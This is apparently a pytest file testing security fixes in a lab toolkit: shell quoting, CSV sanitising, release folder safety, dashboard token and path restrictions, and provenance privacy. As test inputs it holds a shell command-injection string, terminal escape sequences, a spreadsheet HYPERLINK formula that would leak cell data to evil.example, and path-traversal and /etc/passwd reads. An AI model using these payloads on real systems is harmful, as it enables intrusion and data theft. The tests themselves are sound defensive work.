"""Issue 21's smaller items, each on small data: shell quoting of CPU counter names (6), control
characters and spreadsheet formulas from a student's CSV (7), ``release --out`` replacing only its
own folder (8), the dashboard's token and "add CSV" limits (9), provenance without host or home (10)."""

from __future__ import annotations

import dataclasses
import http.client
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from labkit import provenance
from labkit.backends import cpu_accounting
from labkit.dashboard import reanalysis
from labkit.grading.checks import authenticity_flags
from labkit.grading.grade import format_grades
from labkit.grading.release import ReleaseError, build_release
from labkit.results import load_results
from tests.support.analysis_data import make_row, write_csv
from tests.support.ports import free_port
from tests.support.processes import stop_group_and_descendants

ROOT = Path(__file__).resolve().parent.parent


def test_item6_a_counter_name_is_never_run_by_the_shell(tmp_path):
    planted = tmp_path / "pwned"
    name = f"x$(touch {planted})`touch {planted}`"
    script = cpu_accounting.remote_script({name: {"pid": os.getpid()}, "plain": {"pidfile": str(tmp_path / "no")}})
    out = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=10).stdout
    assert not planted.exists()
    lines = out.splitlines()
    assert any(line.startswith(name + " ticks ") for line in lines), out
    assert "plain none 0" in lines


def test_item7_escape_sequences_from_a_csv_do_not_reach_the_terminal(tmp_path):
    rows = [dataclasses.replace(make_row(1, 10), run_id="\x1b]0;owned\x07\x1b[2J20261120T090000Z-a1b2"),
            make_row(1, 20)]
    df = load_results(write_csv(tmp_path / "r.csv", rows))
    flags = authenticity_flags(df, reference=df.iloc[0:0])
    text = format_grades({"eve": {"score": 1.0, "max_score": 6.0, "flags": flags, "failed": []}})
    assert "run-id:" in text and "owned" in text
    assert not any(ord(ch) < 32 and ch != "\n" or 0x7f <= ord(ch) <= 0x9f for ch in text), repr(text)


def test_item7_the_dashboard_export_neutralises_formulas(tmp_path):
    rows = [dataclasses.replace(make_row(1, 10), run_id='=HYPERLINK("http://evil.example/?"&A1,"click")'),
            dataclasses.replace(make_row(1, 20), run_id="@SUM(1+1)")]
    own = write_csv(tmp_path / "runs" / "lab.csv", rows)
    d = reanalysis.ReanalysisDashboard(own, root=tmp_path, fallback=own, sla="mean<150", users=50,
                                       export_dir=tmp_path / "out")
    out = pd.read_csv(d.export(), dtype=str)
    assert sorted(out["run_id"]) == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(1+1)"]
    assert not any(str(v).startswith(reanalysis.FORMULA_START) for col in out.columns for v in out[col].dropna()
                   if not str(v).lstrip("-").replace(".", "", 1).isdigit())


def test_item8_release_replaces_only_a_folder_it_made(tmp_path):
    out = tmp_path / "mine"
    (out / "course").mkdir(parents=True)
    (out / "course" / "thesis.tex").write_text("not labkit's")
    with pytest.raises(ReleaseError, match="not a labkit release folder"):
        build_release(out)
    assert (out / "course" / "thesis.tex").read_text() == "not labkit's"
    res = subprocess.run([sys.executable, "-m", "labkit.cli", "release", "--out", str(out)], capture_output=True,
                         text=True, cwd=tmp_path)
    assert res.returncode == 2 and "not a labkit release folder" in res.stderr and "Traceback" not in res.stderr


def test_item9_add_csv_reads_only_the_project_and_named_folders(tmp_path):
    own = write_csv(tmp_path / "project" / "runs" / "lab.csv", [make_row(1, 10)])
    outside = write_csv(tmp_path / "elsewhere" / "x.csv", [make_row(1, 20)])
    secret = tmp_path / "project" / "notes.txt"
    secret.write_text("not a csv")
    d = reanalysis.ReanalysisDashboard(own, root=tmp_path / "project", fallback=own, sla="mean<150", users=50)
    for path in (str(outside), str(tmp_path / "project" / ".." / "elsewhere" / "x.csv"), "/etc/passwd"):
        d.add(path)
        assert "outside the project" in d.status.value and len(d.picker.options) == 1
    (tmp_path / "project" / "link.csv").symlink_to(outside)  # a link out of the project is outside too
    d.add(str(tmp_path / "project" / "link.csv"))
    assert "outside the project" in d.status.value
    d.add(str(secret))
    assert "no such file (a .csv)" in d.status.value and len(d.picker.options) == 1
    allowed = reanalysis.ReanalysisDashboard(own, root=tmp_path / "project", fallback=own, sla="mean<150", users=50,
                                             allowed=[tmp_path / "elsewhere"])
    allowed.add(str(outside))
    assert len(allowed.picker.options) == 2


@pytest.mark.kernel
def test_item9_the_dashboard_asks_for_its_token(tmp_path):
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "labkit.cli", "dashboard", "--port", str(port)],
                            stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True, start_new_session=True)
    try:
        line = proc.stderr.readline()
        assert "?token=" in line, line
        url = line.split()[2]
        token = url.split("token=")[1]
        assert len(token) >= 24
        def get(path):
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
            try:
                conn.request("GET", path)
                r = conn.getresponse()
                return r.status, r.getheader("Location") or ""
            finally:
                conn.close()

        deadline = time.monotonic() + 90
        while True:
            try:
                status, where = get("/")
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.5)
        assert status == 302 and "login" in where, (status, where)  # no token: to the login page
        assert get("/api/kernels")[0] in (302, 403)
        assert get(f"/?token={token}")[0] == 200
    finally:
        stop_group_and_descendants(proc)  # the CLI, voila and the kernel it started for the page


def test_item10_provenance_names_the_notebook_not_the_kernel_or_host(monkeypatch):
    home = os.path.expanduser("~")
    launcher = [f"{home}/.venv/lib/python3.11/site-packages/ipykernel_launcher.py", "-f",
                f"{home}/.local/share/jupyter/runtime/kernel-1234.json"]
    monkeypatch.setattr(sys, "argv", launcher)
    monkeypatch.setenv("JPY_SESSION_NAME", f"{home}/lab02/01_single_server.ipynb")
    made = provenance.collect()
    text = json.dumps(made)
    assert made["command"] == "notebook 01_single_server.ipynb"
    assert "machine" not in made and os.uname().nodename not in text and home not in text
    monkeypatch.setattr(sys, "argv", [f"{home}/lab/.venv/bin/labkit", "sweep", "--profile", "quick"])
    assert provenance.collect()["command"] == "~/lab/.venv/bin/labkit sweep --profile quick"


def test_item5_an_ssh_sweep_with_more_nodes_than_servers_is_refused_before_it_starts(tmp_path):
    hosts = tmp_path / "hosts.toml"
    hosts.write_text('[[servers]]\nhost = "127.0.0.1"\nport = 9\n[balancer]\nhost = "127.0.0.1"\nport = 9\n'
                     '[tester]\nhost = "127.0.0.1"\nport = 9\n')
    out = tmp_path / "r.csv"
    res = subprocess.run([sys.executable, "-m", "labkit.cli", "sweep", "--backend", "ssh", "--hosts", str(hosts),
                          "--nodes", "1,2", "--concurrency", "10", "--requests", "10", "--out", str(out)],
                         capture_output=True, text=True, cwd=tmp_path, timeout=60,
                         env={**os.environ, "LABKIT_STATE_DIR": str(tmp_path / ".labkit")})
    assert res.returncode == 2 and len(res.stderr.strip().splitlines()) == 1, res.stderr
    assert "2 nodes asked for, but only 1 server hosts given" in res.stderr
    assert not out.exists() and not (tmp_path / ".labkit" / "ssh.json").exists()


def test_item5_ssh_source_reaches_gcp_runs_made_by_sweep_and_lab(tmp_path):
    """--ssh-source on `sweep` and `lab` too: it travels as a setting (LABKIT_GCP_SSH_SOURCE, which the
    lab's kernels inherit) to the gcp backend's firewall rule."""
    from labkit.backends.gcp.backend import GcpBackend
    from labkit.settings import Settings

    settings = Settings.from_env({"LABKIT_GCP_SSH_SOURCE": "203.0.113.7/32", "LABKIT_GCP_PROJECT": "lab-project",
                                  "LABKIT_STATE_DIR": str(tmp_path / ".labkit")})
    assert settings.to_env()["LABKIT_GCP_SSH_SOURCE"] == "203.0.113.7/32"
    b = GcpBackend(settings, compute=object(), run_id="r1", deploy=False)
    assert b.ssh_source_ranges == ["203.0.113.7/32"]
    for command in ("sweep", "lab"):
        res = subprocess.run([sys.executable, "-m", "labkit.cli", command, "--help"], capture_output=True, text=True)
        assert "--ssh-source" in res.stdout, command
